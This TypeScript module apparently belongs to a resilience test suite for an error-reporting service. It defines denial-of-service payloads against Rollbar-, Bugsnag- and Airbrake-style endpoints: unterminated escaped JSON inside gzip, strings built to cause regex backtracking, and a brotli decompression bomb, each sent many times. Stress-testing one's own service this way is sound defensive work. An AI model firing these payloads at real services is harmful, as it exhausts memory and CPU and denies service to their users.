import { brotliCompressSync, gzipSync } from "node:zlib";
import type { Attack } from "./attack.js";
import { send } from "./send.js";
import { byShots } from "./shots.js";

const GZIP = { "content-type": "application/json", "content-encoding": "gzip" };

const ESCAPED = gzipSync(`{"a":"${'\\"'.repeat(60_000)}`);

const looseJson = (name: string, path: string, isKeyed: boolean): Attack =>
  byShots({
    name,
    threat: "a text without an end costs the square of its length",
    input: `${ESCAPED.length} bytes of gzip to ${path}, ${isKeyed ? "with" : "without"} a key`,
    megabytes: 0.1,
    shots: 50,
    async shoot({ url, clientKey }, from) {
      const headers: Record<string, string> = isKeyed
        ? { ...GZIP, "x-rollbar-access-token": clientKey, "bugsnag-api-key": clientKey }
        : GZIP;
      await send(url, { path, headers, body: ESCAPED, from });
    },
  });

const notice = (parts: object): Buffer =>
  gzipSync(JSON.stringify({ errors: [{ type: "E", message: "m", backtrace: FRAMES }], ...parts }));
const FRAMES = Array.from({ length: 200 }, () => ({ file: "/srv/a.js", line: 1, function: "f" }));

const SLOW_TEXTS = [
  [
    "a root of 60,000 slashes, for each of 200 frames",
    { context: { rootDirectory: "/".repeat(60_000) } },
    0.1,
  ],
  ["a language of 400,000 blanks", { context: { language: `${" ".repeat(400_000)}x` } }, 0.4],
  ["eyJ- 400,000 times", { params: { a: "eyJ-".repeat(400_000) } }, 1.6],
] as const;

const slowTexts = SLOW_TEXTS.map(([what, parts, megabytes]): Attack => {
  const body = notice(parts);
  return byShots({
    name: what
      .replaceAll(/[^a-z]+/gi, "-")
      .toLowerCase()
      .replace(/^-/, ""),
    threat: "a text that a pattern reads again and again",
    input: `${what}: ${body.length} bytes of gzip`,
    megabytes,
    shots: 50,
    async shoot({ url, clientKey }, from) {
      const path = `/api/v3/projects/honest/notices?key=${clientKey}`;
      await send(url, { path, headers: GZIP, body, from });
    },
  });
});

const BOMB = brotliCompressSync(Buffer.alloc(19 * 2 ** 20, '{"errors":[{"type":"E","message":"bomb"}]}'));

const bomb = byShots({
  name: "decompression-bombs",
  threat: "bombs take the memory, and the place in line of whoever sends compressed errors",
  input: `${BOMB.length} bytes of brotli that become 19 MB`,
  megabytes: 0,
  shots: 200,
  async shoot({ url, clientKey }, from) {
    const headers = { "x-api-key": clientKey, "content-type": "application/json", "content-encoding": "br" };
    await send(url, { path: "/v0/projects/honest/errors", headers, body: BOMB, from });
  },
});

/** What compressed and unpacked bodies can do. */
export const bodies: readonly Attack[] = [
  looseJson("loose-json-item", "/api/1/item/", false),
  looseJson("loose-json-notify", "/notify", false),
  looseJson("loose-json-with-a-key", "/api/1/item/", true),
  ...slowTexts,
  bomb,
];
